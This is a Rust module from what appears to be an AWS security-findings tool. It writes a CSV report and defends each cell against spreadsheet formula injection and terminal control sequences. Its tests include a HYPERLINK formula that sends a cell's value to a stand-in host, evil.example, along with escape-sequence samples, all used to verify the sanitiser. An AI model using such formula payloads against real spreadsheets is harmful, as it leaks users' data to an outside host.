//! CSV: one row per finding, RFC 4180 quoting (the `csv` crate quotes every
//! field that holds a comma, quote or line break, and doubles quotes).
//!
//! Every cell is made safe to open and to print ([`cell`]): what AWS holds
//! (a security group's name, a tag) is written as text, never as a
//! spreadsheet formula or a terminal's control sequence.

use std::borrow::Cow;
use std::io::Write;

use crate::model::Report;

const HEADER: [&str; 16] = [
    "account_id",
    "region",
    "check_id",
    "title",
    "service",
    "severity",
    "status",
    "muted",
    "resource_type",
    "resource_id",
    "resource_arn",
    "resource_name",
    "resource_tags",
    "message",
    "compliance",
    "shared_responsibility",
];

pub fn render(report: &Report) -> anyhow::Result<Vec<u8>> {
    let mut bytes = Vec::new();
    write(report, &mut bytes)?;
    Ok(bytes)
}

/// A cell as text: one that a spreadsheet would read as a formula (it
/// begins with `=`, `+`, `-`, `@`, a tab or a carriage return: OWASP's
/// rule) gets a leading `'`, and control characters other than a line
/// break are written out as `\xNN`, so that printing the file cannot drive
/// a terminal.
pub fn cell(text: &str) -> Cow<'_, str> {
    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let control = |c: char| c.is_control() && c != '\n';
    if !formula && !text.contains(control) {
        return Cow::Borrowed(text);
    }
    let mut safe = String::with_capacity(text.len() + 4);
    if formula {
        safe.push('\'');
    }
    for c in text.chars() {
        if control(c) {
            safe.push_str(&format!("\\x{:02x}", u32::from(c)));
        } else {
            safe.push(c);
        }
    }
    Cow::Owned(safe)
}

/// A CSV writer whose every cell goes through [`cell`].
pub struct SafeWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> std::fmt::Debug for SafeWriter<W> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("SafeWriter")
    }
}

impl<W: Write> SafeWriter<W> {
    /// RFC 4180 ends records with CRLF.
    pub fn new(out: W) -> SafeWriter<W> {
        SafeWriter { inner: csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(out) }
    }

    pub fn write_record<'a>(&mut self, record: impl IntoIterator<Item = &'a str>) -> csv::Result<()> {
        self.inner.write_record(record.into_iter().map(|text| cell(text).into_owned()))
    }

    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }
}

pub fn write(report: &Report, out: &mut dyn Write) -> anyhow::Result<()> {
    let mut writer = SafeWriter::new(out);
    writer.write_record(HEADER)?;
    report.findings.each(|_, finding| {
        let tags: Vec<String> = finding.resource_tags.iter().map(|(key, value)| format!("{key}={value}")).collect();
        let compliance: Vec<String> = finding
            .compliance
            .iter()
            .map(|(framework, controls)| format!("{framework}: {}", controls.join(" ")))
            .collect();
        let area = report.check(&finding.check_id).map(|check| check.shared_responsibility.as_str()).unwrap_or("");
        writer.write_record([
            finding.account_id.as_str(),
            &finding.region,
            &finding.check_id,
            &finding.title,
            &finding.service,
            finding.severity.as_str(),
            finding.status.as_str(),
            if finding.muted { "true" } else { "false" },
            &finding.resource_type,
            &finding.resource_id,
            &finding.resource_arn,
            &finding.resource_name,
            &tags.join("; "),
            &finding.message,
            &compliance.join("; "),
            area,
        ])?;
        Ok(())
    })?;
    writer.flush()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::cell;

    #[test]
    fn a_formula_is_written_as_text() {
        let link = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
        assert_eq!(cell(link), format!("'{link}"));
        for start in ["+1", "-1+1", "@SUM(A1)", "\tx", "\rx"] {
            assert!(cell(start).starts_with('\''), "{start:?}");
        }
        assert_eq!(cell("sg-0123 (web)"), "sg-0123 (web)");
        assert_eq!(cell("a=b"), "a=b", "only a leading sign makes a formula");
    }

    #[test]
    fn control_characters_are_written_out() {
        assert_eq!(cell("red \u{1b}[31m text\u{7}"), "red \\x1b[31m text\\x07");
        assert_eq!(cell("csi \u{9b}2J"), "csi \\x9b2J", "C1 controls too");
        assert_eq!(cell("two\nlines"), "two\nlines", "a line break stays: the field is quoted");
        assert_eq!(cell("\rhidden"), "'\\x0dhidden");
    }
}
